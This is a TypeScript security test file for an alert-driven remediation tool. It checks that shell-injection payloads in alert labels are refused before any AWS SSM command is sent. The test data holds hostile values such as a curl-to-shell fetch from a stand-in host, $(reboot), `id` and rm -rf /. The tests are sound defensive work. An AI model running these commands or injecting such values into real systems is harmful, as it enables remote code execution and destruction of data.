// Attack: shell injection into SSM through alert labels (issue 11, item 1). An attacker who can
// post an alert sets `mountpoint=/'; curl evil|sh; '` (or picks another instance) hoping it
// becomes a root shell on an instance. Sent the way an attacker would: an Alertmanager webhook to
// the real intake, the shipped disk-full-ssm playbook, a real worker on a Temporal dev server, and
// moto (the SSM + EC2 APIs) holding the shipped Medic-CleanDisk document and the instance tags.
// Each test asserts nothing was sent to moto, and that the refusal names field, value and rule in
// the timeline and the audit log.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from 'better-sqlite3';
import { ListCommandsCommand } from '@aws-sdk/client-ssm';
import { createAuditSink } from '../../activities/audit.js';
import { auditLog, openAuditDb } from '../../src/audit/log.js';
import { loadPlaybooks } from '../../src/playbooks/load.js';
import { PlaybookSchema } from '../../src/playbooks/schema.js';
import type { TimelineEntry } from '../../workflows/contracts.js';
import { runMedicCli } from '../support/cli.js';
import { incidentIdFrom, startMedic, TOKENS, type Medic } from '../support/medic.js';
import { startMoto, type Moto } from '../support/moto.js';
import { ROOT } from '../support/paths.js';
import { pollUntil } from '../support/poll.js';
import { groupOf } from '../../workflows/contracts-timeline.js';

let moto: Moto;
let m: Medic;
let db: Database;

// Instances in moto's EC2, tagged as an operator would tag them.
const MANAGED_ATTACKED = 'i-0a77ac4ed0000000a';
const MANAGED = 'i-0a77ac4ed0000000b';
const OUTSIDE = 'i-0a77ac4ed0000000c'; // medic-managed=false
const UNTAGGED = 'i-0a77ac4ed0000000d';

beforeAll(async () => {
  moto = await startMoto();
  await moto.createShippedDocument('Medic-CleanDisk');
  await moto.createShippedDocument('Medic-GrowRootVolume', 'Automation');
  await moto.tagInstance(MANAGED_ATTACKED, { 'medic-managed': 'true' });
  await moto.tagInstance(MANAGED, { 'medic-managed': 'true' });
  await moto.tagInstance(OUTSIDE, { 'medic-managed': 'false', Role: 'web' });
  db = openAuditDb(join(mkdtempSync(join(tmpdir(), 'medic-sec-ssm-')), 'audit.db'));
  m = await startMedic({ awsEndpoint: moto.url, sinks: [createAuditSink(db)] });
  const shipped = await loadPlaybooks([join(ROOT, 'playbooks/disk-full-ssm.yaml')]);
  expect(shipped.problems).toEqual([]);
  const [diskFull] = shipped.playbooks;
  // The shipped playbook, and copies of it under other names for the tests that expect refusals:
  // three failed runs of a step auto-demote it (limits.demoteAfter), which would stop the next test.
  const copy = (suffix: string) => ({ ...diskFull!, name: `disk-full-ssm-${suffix}`, match: { ...diskFull!.match, alertname: [`DiskFull${suffix}`] } });
  m.playbooks.push(diskFull!, copy('tags'), copy('ids'));
}, 180_000);
afterAll(async () => {
  await m?.stop();
  db?.close();
  await moto?.stop();
});

const commandsFor = async (instanceId: string) => (await moto.ssm.send(new ListCommandsCommand({ InstanceId: instanceId }))).Commands ?? [];
const allCommands = async () => (await moto.ssm.send(new ListCommandsCommand({}))).Commands ?? [];

/** Fires a disk alert through the intake; returns the incident's workflow id. */
async function fire(labels: Record<string, string>, alertname = 'DiskFull'): Promise<string> {
  const res = await m.postAlerts('firing', { alertname, severity: 'warning', ...labels });
  expect(res.status).toBe(202);
  return incidentIdFrom(res);
}

/** The first step's outcome (finished or failed) in the incident's timeline. */
async function stepOutcome(workflowId: string): Promise<TimelineEntry> {
  const entry = await pollUntil(
    async () => (await m.timeline(workflowId).catch(() => [])).find((e) => groupOf(e.kind) === 'action' && e.step === 0 && / (finished|failed): /.test(e.message)),
    (e) => e !== undefined,
    `the first step of ${workflowId} to finish or fail`,
    90_000, // a loaded machine delays workflow tasks
  );
  return entry!;
}

/** The audit rows of the incident that record the step's failure. */
async function auditedFailure(workflowId: string): Promise<string[]> {
  const incidentId = (await m.status(workflowId)).incidentId;
  return pollUntil(
    () =>
      auditLog(db)
        .entries()
        .filter((r) => r.incidentId === incidentId && r.kind === 'action' && r.after === 'failed')
        .map((r) => r.what),
    (rows) => rows.length > 0,
    'the refusal in the audit log',
    30_000,
  );
}

describe('shell injection into SSM through alert labels', () => {
  it("mountpoint=/'; curl evil|sh; ' on an allow-listed instance: refused before SendCommand; the reason names parameter, value and pattern", async () => {
    const id = await fire({ instance_id: MANAGED_ATTACKED, mountpoint: "/'; curl evil|sh; '" });
    const outcome = await stepOutcome(id);
    const reason = "parameter `Mountpoint` value `/'; curl evil|sh; '` does not match `^/[A-Za-z0-9/_.-]*$` (document Medic-CleanDisk)";
    expect(outcome.message).toContain(`(clean-up-disk) failed: refused: ${reason}`);
    expect(outcome.kind).toBe('action.failed');
    expect(outcome.data).toMatchObject({ details: { refused: reason } });
    expect(await commandsFor(MANAGED_ATTACKED)).toEqual([]);
    expect(await auditedFailure(id)).toEqual([expect.stringContaining(reason)]);
  });

  it('a legitimate mountpoint: the command is sent with the value as a typed document parameter, never as script text', async () => {
    const id = await fire({ instance_id: MANAGED, mountpoint: '/var/lib/docker' });
    const outcome = await stepOutcome(id);
    expect(outcome.message).toMatch(/\(clean-up-disk\) finished: SSM Medic-CleanDisk on i-0a77ac4ed0000000b → Success/);
    const sent = await commandsFor(MANAGED);
    expect(sent).toHaveLength(1);
    expect(sent[0]).toMatchObject({
      DocumentName: 'Medic-CleanDisk',
      InstanceIds: [MANAGED],
      Parameters: { Mountpoint: ['/var/lib/docker'], JournalMaxSize: ['200M'], LogAgeDays: ['7'] },
    });
    expect(Object.keys(sent[0]!.Parameters ?? {})).not.toContain('commands');
  });

  it('an instance outside the tag allow-list (medic-managed=false, or no tag) is refused; nothing is sent to it', async () => {
    const outside = await stepOutcome(await fire({ instance_id: OUTSIDE, mountpoint: '/var' }, 'DiskFulltags'));
    const reason = 'instance `i-0a77ac4ed0000000c` is not allow-listed: tag `medic-managed` is `false`, allow.ssm.instanceTags.medic-managed wants true';
    expect(outside.message).toContain(`failed: refused: ${reason}`);
    const untaggedId = await fire({ instance_id: UNTAGGED, mountpoint: '/var' }, 'DiskFulltags');
    expect((await stepOutcome(untaggedId)).message).toContain('refused: instance `i-0a77ac4ed0000000d` is not allow-listed: tag `medic-managed` is missing');
    expect(await commandsFor(OUTSIDE)).toEqual([]);
    expect(await commandsFor(UNTAGGED)).toEqual([]);
    expect(await auditedFailure(untaggedId)).toEqual([expect.stringContaining('is not allow-listed')]);
  });

  it('a rendered instance id that is no instance id is refused by the workflow: no SSM activity is even scheduled', async () => {
    const bogus = `i-${'0'.repeat(24)}`; // passes the playbook's ~i-[0-9a-f]+ match, not the id format
    const id = await fire({ instance_id: bogus, mountpoint: '/var' }, 'DiskFullids');
    const outcome = await stepOutcome(id);
    expect(outcome.message).toContain(`failed: refused: instance id \`${bogus}\` does not match \`^(i|mi)-[0-9a-f]{8,17}$\``);
    const history = await m.env.client.workflow.getHandle(id).fetchHistory();
    const scheduled = (history.events ?? []).map((e) => e.activityTaskScheduledEventAttributes?.activityType?.name).filter(Boolean);
    expect(scheduled).not.toContain('ssmRunCommand');
    expect(await commandsFor(bogus)).toEqual([]);
  });

  it('a tag target value from a label outside allow.ssm.instanceTags is refused; nothing is sent', async () => {
    m.playbooks.unshift(
      PlaybookSchema.parse({
        name: 'role-disk-full',
        match: { alertname: 'RoleDiskFull' },
        groupBy: ['alertname', 'role'],
        allow: { ssm: { instanceTags: { 'medic-managed': ['true'], Role: ['web'] } } },
        steps: [
          {
            name: 'clean-by-role',
            action: 'ssm-command',
            params: { document: 'Medic-CleanDisk', targets: [{ key: 'tag:Role', values: ['{{labels.role}}'] }], parameters: { Mountpoint: '/' } },
          },
        ],
      }),
    );
    const before = (await allCommands()).length;
    const res = await m.postAlerts('firing', { alertname: 'RoleDiskFull', severity: 'warning', role: 'db' });
    const outcome = await stepOutcome(await incidentIdFrom(res));
    expect(outcome.message).toContain('failed: refused: target `tag:Role` value `db` is not in allow.ssm.instanceTags.Role (web)');
    expect((await allCommands()).length).toBe(before);
  });

  it('refusals are not failed runs: hostile alerts cannot auto-demote the step for everyone', async () => {
    // With the first test's refusal, four refused runs of clean-up-disk: demoteAfter (3 of 5)
    // would demote it if they counted as failures. One instance each: a refused action still
    // uses its target's hourly action budget (maxActionsPerHourPerTarget: 2).
    const attacks = [
      ['i-0a77ac4ed00000010', '/$(reboot)'],
      ['i-0a77ac4ed00000011', '/`id`'],
      ['i-0a77ac4ed00000012', '/;rm -rf /'],
    ] as const;
    for (const [instance, mountpoint] of attacks) {
      await moto.tagInstance(instance, { 'medic-managed': 'true' });
      const outcome = await stepOutcome(await fire({ instance_id: instance, mountpoint }));
      expect(outcome.message).toContain('failed: refused: parameter `Mountpoint`');
      expect(await commandsFor(instance)).toEqual([]);
    }
    const governor = await m.api('GET', '/api/governor', TOKENS.alice);
    expect(governor.status).toBe(200);
    const demoted = governor.body.demotedSteps as { playbook: string }[];
    expect(demoted.filter((d) => d.playbook === 'disk-full-ssm')).toEqual([]);
  });

  it('medic validate refuses a playbook that puts a template into AWS-RunShellScript commands', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'medic-sec-ssm-pb-'));
    writeFileSync(
      join(dir, 'disk-full-old.yaml'),
      `name: disk-full-old
match: { alertname: DiskFull }
allow: { ssm: { instanceTags: { medic-managed: ['true'] } } }
steps:
  - name: clean-up-disk
    action: ssm-command
    params:
      document: AWS-RunShellScript
      instanceIds: ['{{labels.instance_id}}']
      parameters:
        commands:
          - journalctl --vacuum-size=200M
          - df -h '{{labels.mountpoint}}'
`,
    );
    const r = await runMedicCli(['validate', dir]);
    expect(r.code).toBe(1);
    expect(`${r.out}${r.err}`).toMatch(/disk-full-old\.yaml:11:9: steps\.0\.params\.parameters\.commands: parameter `commands`: AWS-RunShellScript runs its parameters as a shell script: a template here lets alert data write the script/);
  });
});
